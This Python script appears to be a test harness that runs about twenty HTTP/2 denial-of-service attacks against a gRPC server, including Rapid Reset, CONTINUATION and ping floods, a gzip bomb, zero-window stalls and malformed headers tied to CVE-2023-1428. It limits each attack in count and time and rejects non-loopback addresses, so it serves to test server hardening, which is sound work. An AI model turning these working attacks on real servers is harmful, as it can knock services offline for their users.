#!/usr/bin/env python3
"""Attacks on a gRPC server by raw HTTP/2, each bounded in count and time, on loopback only. Prints one line of JSON:
what was sent and what came back. One that holds its connections open prints "holding" first and lets go when its
standard input ends. Usage: attacks.py NAME HOST:PORT [--ca=FILE] [--count=N]; the names are the keys of ATTACKS.
Tested by tests/attack/direct_test.py and tests/attack/envoy_test.py."""
import argparse
import collections
import gzip
import ipaddress
import json
import random
import struct
import sys
import time

import hpack

import http2_wire as h2

SECONDS = 25  # of one attack, whatever it has sent by then
STREAMS = 100  # what the server allows at once on a connection
SCORE = "/glowworm.v1.DensityService/LogLikelihood"
SAMPLE = "/glowworm.v1.DensityService/Sample"


class Attack:
    """Connections to one address, and the sum of what they saw."""

    def __init__(self, address, ca):
        self.address, self.ca = address, ca
        self.until = time.monotonic() + SECONDS
        self.connections = []
        self.connected = self.sent = self.refused = self.closed = 0
        self.goaways, self.resets, self.statuses = (collections.Counter() for _ in range(3))
        self.text = ""

    def dial(self, **options):
        try:
            connection = h2.Connection(self.address, self.ca, **options)
        except OSError:  # also a TLS handshake that fails
            self.refused += 1
            return None
        self.connected += 1
        self.connections.append(connection)
        return connection

    def in_time(self):
        return time.monotonic() < self.until

    def done(self, connection):
        """Adds up what the connection saw, and closes it."""
        self.connections.remove(connection)
        self.closed += connection.closed
        if connection.goaway is not None:
            self.goaways[connection.goaway] += 1
        self.resets.update(connection.resets)
        self.statuses.update(connection.statuses)
        self.text = connection.text.decode(errors="replace") or self.text
        connection.close()

    def hold(self):
        print("holding", flush=True)
        sys.stdin.read()

    def report(self):
        for connection in list(self.connections):
            self.done(connection)
        return {"connected": self.connected, "refused": self.refused, "sent": self.sent, "closed": self.closed,
                "goaways": self.goaways, "resets": self.resets, "statuses": self.statuses, "text": self.text,
                "seconds": round(SECONDS - (self.until - time.monotonic()), 2)}


def wait_closed(attack, seconds):
    """Waits until every connection is closed, or so long."""
    until = time.monotonic() + seconds
    for connection in attack.connections:
        connection.wait_closed(max(0.01, until - time.monotonic()))


def headers(stream, method=SCORE, *more, flags=h2.END_HEADERS):
    block = b"".join(h2.literal(name, value) for name, value in h2.call_headers(method, *more))
    return h2.frame(h2.HEADERS, flags, stream, block)


# A PING answered, or GOAWAY: everything before it has been parsed.
PING = h2.frame(h2.PING, payload=b"attacker")


def answered(connection, pings=1):
    return connection.pongs >= pings or connection.goaway is not None


def reset_streams(attack, count, kind, payload):
    """`count` streams, each begun and, by a frame of this kind, reset at once, over as many connections, one after
    another, as it takes."""
    encoder = hpack.Encoder()
    first = encoder.encode(h2.call_headers(SCORE), huffman=False)
    later = encoder.encode(h2.call_headers(SCORE), huffman=False)  # every header from the table: some ten bytes
    while attack.sent < count and attack.in_time():
        connection = attack.dial()
        stream = 1
        while connection and not connection.closed and connection.goaway is None and attack.sent < count \
                and attack.in_time():
            batch = []
            for _ in range(min(50, count - attack.sent)):
                batch.append(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, first if stream == 1 else later))
                batch.append(h2.data(stream, h2.message(b""), end=True) + h2.frame(kind, 0, stream, payload))
                stream += 2
                attack.sent += 1
            connection.send(b"".join(batch))
        if connection:
            connection.send(PING, seconds=5)
            connection.wait(answered, attack.until - time.monotonic())
            attack.done(connection)


def rapid_reset(attack, count):
    reset_streams(attack, count, h2.RST_STREAM, struct.pack(">I", h2.CANCEL))


def made_you_reset(attack, count):
    """As rapid_reset, but it is the server that resets: a WINDOW_UPDATE of 0 is an error of the stream."""
    reset_streams(attack, count, h2.WINDOW_UPDATE, struct.pack(">I", 0))


def huge_header(attack, count):
    """One header of `count` MiB, in CONTINUATION frames."""
    connection = attack.dial()
    block = h2.literal(b"x-huge", b"")[:-1] + h2.integer(count << 20, 7)
    connection.send(headers(1, flags=0) + h2.frame(h2.CONTINUATION, 0, 1, block))
    piece = h2.frame(h2.CONTINUATION, 0, 1, b"a" * 16384)
    for _ in range(count * 64):
        if not (attack.in_time() and connection.send(piece)):
            break
        attack.sent += 16384
    connection.send(h2.frame(h2.CONTINUATION, h2.END_HEADERS, 1) + PING)
    connection.wait(answered, attack.until - time.monotonic())


def flood(attack, count, piece, before=b"", after=b""):
    """`count` of one frame on one connection, until it is closed or has parsed them all."""
    connection = attack.dial()
    connection.send(before)
    while attack.sent < count and attack.in_time() and connection.goaway is None:
        if not connection.send(piece * 200, seconds=5):
            break
        attack.sent += 200
    connection.send(after + PING, seconds=5)
    connection.wait(lambda me: answered(me, 1 + attack.sent * (piece == PING)), 5)
    if connection.goaway is not None:
        connection.wait_closed(2)


def continuation_flood(attack, count):
    flood(attack, count, h2.frame(h2.CONTINUATION, 0, 1, h2.literal(b"a", b"b")), headers(1, flags=0),
          h2.frame(h2.CONTINUATION, h2.END_HEADERS, 1))


def empty_continuation_flood(attack, count):
    flood(attack, count, h2.frame(h2.CONTINUATION, 0, 1), headers(1, flags=0),
          h2.frame(h2.CONTINUATION, h2.END_HEADERS, 1))


def ping_flood(attack, count):
    flood(attack, count, PING)


def settings_flood(attack, count):
    flood(attack, count, h2.settings((h2.INITIAL_WINDOW_SIZE, 65535)))


def empty_data_flood(attack, count):
    flood(attack, count, h2.frame(h2.DATA, 0, 1), headers(1))


def priority_flood(attack, count):
    flood(attack, count, h2.frame(h2.PRIORITY, 0, 1, struct.pack(">IB", 0, 1)), headers(1))


def window_zero(attack, count):
    """100 replies of 1.5 MB asked for on each of `count` connections, which let no DATA come."""
    body = h2.message(b"\x10" + varint(65536))  # num_samples
    for _ in range(count):
        connection = attack.dial(preface=h2.PREFACE + h2.settings((h2.INITIAL_WINDOW_SIZE, 0)))
        for k in range(STREAMS):  # one after another: queued together they would be refused for their rows
            connection.send(headers(2 * k + 1, SAMPLE) + h2.data(2 * k + 1, body, end=True))
            connection.wait(lambda me, k=k: me.frames[h2.HEADERS] > k, 2)
            attack.sent += 1
            if connection.closed or not attack.in_time():
                break
    attack.hold()


def varint(value):
    out = []
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes(out + [value])


def headers_without_end(attack, count):
    """HEADERS that never end, on `count` connections, then silence."""
    for _ in range(count):
        connection = attack.dial()
        connection.send(headers(1, flags=0))
        attack.sent += 1
    attack.hold()


def half_messages(attack, count):
    """Of a message of 4 MiB, all but the last KiB, on each of 100 streams of `count` connections, then silence."""
    size = 4 << 20
    for _ in range(count):
        connection = attack.dial()
        for stream in range(1, 2 * STREAMS, 2):
            connection.send(headers(stream))
            attack.sent += connection.fill(stream, struct.pack(">BI", 0, size) + bytes(size - 1024), 2)
            if connection.closed or not attack.in_time():
                break
    attack.hold()


def huge_message(attack, count):
    """One message of `count` MiB."""
    connection = attack.dial()
    connection.send(headers(1))
    piece = bytes(1 << 20)
    attack.sent = connection.fill(1, struct.pack(">BI", 0, count << 20))
    for _ in range(count):
        sent = connection.fill(1, piece, 5)
        attack.sent += sent
        if sent < len(piece) or not attack.in_time():
            break
    connection.wait(lambda me: me.ended or me.goaway is not None, 5)


def gzip_bomb(attack, count):
    """A message of `count` MiB of zeros, compressed a thousandfold."""
    connection = attack.dial()
    bomb = gzip.compress(bytes(count << 20), 9)
    connection.send(headers(1, SCORE, (b"grpc-encoding", b"gzip")))
    attack.sent = connection.fill(1, h2.message(bomb, compressed=True))
    connection.send(h2.data(1, b"", end=True))
    connection.wait(lambda me: me.ended or me.goaway is not None, 20)


def bursts(attack, count, payload, **options):
    """`count` connections that each send something, and wait until they are closed."""
    for k in range(count):
        connection = attack.dial(**options)
        if connection:
            connection.send(payload(k))
            attack.sent += 1
    wait_closed(attack, 3)


def oversized_frame(attack, count):
    frame = headers(1) + h2.frame(h2.DATA, 0, 1, length=(1 << 24) - 1) + bytes(1 << 16)
    bursts(attack, count, lambda k: frame)


def not_http2(attack, count, payload):
    bursts(attack, count, payload, preface=b"")


def http1(attack, count):
    not_http2(attack, count, lambda k: b"GET / HTTP/1.1\r\nHost: glowworm\r\n\r\n")


def tls_hello(attack, count):
    """The first bytes of a TLS 1.2 handshake, as they are on the wire, to a port that may not speak TLS."""
    attack.ca = None
    hello = b"\x01" + struct.pack(">I", 43)[1:] + b"\x03\x03" + bytes(33) + b"\0\x02\xc0\x2f" + b"\x01\0" + b"\0\0"
    not_http2(attack, count, lambda k: b"\x16\x03\x01" + struct.pack(">H", len(hello)) + hello)


def plaintext(attack, count):
    """HTTP/2 without TLS, to a port that may speak nothing but TLS."""
    attack.ca = None
    not_http2(attack, count, lambda k: h2.PREFACE + h2.settings() + headers(1))


def random_bytes(attack, count):
    """Noise: half of it at once, half after a proper preface."""
    def noise(k):
        generator = random.Random(k)
        return (h2.PREFACE + h2.settings() if k % 2 else b"") + generator.randbytes(generator.randrange(1, 4096))
    not_http2(attack, count, noise)


def odd_headers(attack, count):
    """Pseudo-headers and te with values that aborted gRPC before 1.53, with 9 KB of others (CVE-2023-1428)."""
    long = (b"x-long", b"a" * 9000)
    for extra in ((b"te", b"x"), (b":scheme", b"x"), (b"grpclb_client_stats", b"x"), (b"content-type", b"text/html"),
                  (b"grpc-timeout", b"99999999999999H"), (b":path", b"no-slash"), (b"x-bin", b"!not base64!")):
        connection = attack.dial()
        connection.send(headers(1, SCORE, extra, long) + headers(3, SCORE, extra))
        connection.wait(lambda me: me.goaway is not None or len(me.statuses) + len(me.resets) > 1, 0.5)
        attack.sent += 2
        attack.done(connection)


def silent_connections(attack, count):
    """`count` connections that never say a word."""
    for _ in range(count):
        attack.dial(preface=b"")
    attack.sent = attack.connected
    attack.hold()
    wait_closed(attack, 2)


# name: (function, the count of a normal run)
ATTACKS = {"rapid_reset": (rapid_reset, 20000), "made_you_reset": (made_you_reset, 20000),
           "huge_header": (huge_header, 16), "continuation_flood": (continuation_flood, 100000),
           "empty_continuation_flood": (empty_continuation_flood, 100000), "ping_flood": (ping_flood, 50000),
           "settings_flood": (settings_flood, 50000), "empty_data_flood": (empty_data_flood, 50000),
           "priority_flood": (priority_flood, 50000), "window_zero": (window_zero, 2),
           "headers_without_end": (headers_without_end, 50), "half_messages": (half_messages, 1),
           "huge_message": (huge_message, 200), "gzip_bomb": (gzip_bomb, 200), "oversized_frame": (oversized_frame, 5),
           "http1": (http1, 5), "tls_hello": (tls_hello, 5), "plaintext": (plaintext, 5),
           "random_bytes": (random_bytes, 40), "odd_headers": (odd_headers, 1),
           "silent_connections": (silent_connections, 200)}


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("address")
    parser.add_argument("--ca")
    parser.add_argument("--count", type=int)
    arguments = parser.parse_args()
    host, port = arguments.address.rsplit(":", 1)
    if not ipaddress.ip_address(host).is_loopback:
        parser.error(f"expected a loopback address, got {host}")
    function, count = ATTACKS[arguments.name]
    attack = Attack((host, int(port)), arguments.ca)
    function(attack, arguments.count or count)
    print(json.dumps(attack.report()))


if __name__ == "__main__":
    main()
